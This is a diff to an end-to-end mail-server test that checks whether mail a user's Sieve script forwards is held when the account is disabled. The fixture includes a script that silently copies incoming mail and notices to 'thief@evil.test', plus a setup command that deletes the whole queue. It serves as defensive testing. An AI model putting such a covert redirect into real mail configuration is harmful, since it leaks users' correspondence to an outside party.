@@ -19,7 +19,8 @@ from tests.e2e.house import House, token, until, unverified
 USER, OTHER, STRANGER = "user1@example.test", "admin@example.test", "stranger@elsewhere.test"
 HOME = "/vault/mail/example.test/user1"
 NO_WAITING = "postconf -X defer_transports; postfix reload; postsuper -d ALL"  # a push finds nothing to reload for
-REDIRECT = 'require ["copy"]; redirect :copy "thief@evil.test";'
+REDIRECT = """require ["copy", "enotify"]; redirect :copy "thief@evil.test";
+notify :from "sales@example.test" "mailto:thief@evil.test";"""
 
 
 def comes_in(house: House, port: int, user: str, password: str) -> bool:
@@ -161,7 +162,8 @@ def redirecting(up: House) -> Iterator[House]:
 
 
 def test_what_a_script_sends_on_is_held(redirecting: House) -> None:
-    """To the mailbox, to a +detail of it, and a bounce, which has no sender: all three are theirs."""
+    """To the mailbox, to a +detail of it, and a bounce, which has no sender; and notices of them that it writes, by an
+    alias: all are theirs."""
     head = f"Date: {email.utils.formatdate()}\\nFrom: <mailer-daemon@mx.elsewhere.test>\\n"
     for sender, to in ((STRANGER, USER), (STRANGER, "user1+x@example.test"), ("", USER)):
         text = f"{head}To: {to}\\nSubject: hello\\nMessage-ID: <{token()}@elsewhere.test>\\n\\nHello.\\n"
@@ -170,10 +172,10 @@ def test_what_a_script_sends_on_is_held(redirecting: House) -> None:
     def waiting() -> list[str]:
         return [line for line in redirecting.run("mail", "postqueue -j").splitlines() if "thief@evil.test" in line]
 
-    until(lambda: len(waiting()) == 3, 30, "what is sent on")
+    until(lambda: len(waiting()) == 6, 30, "what is sent on")
     try:
         said = redirecting.fab("mailcfg", f"disable {USER}").stdout
-        assert "put 3 messages of theirs in the queue on hold" in said
+        assert "put 6 messages of theirs in the queue on hold" in said
         assert all('"hold"' in line for line in waiting())
     finally:
         redirecting.fab("mailcfg", f"enable {USER}")
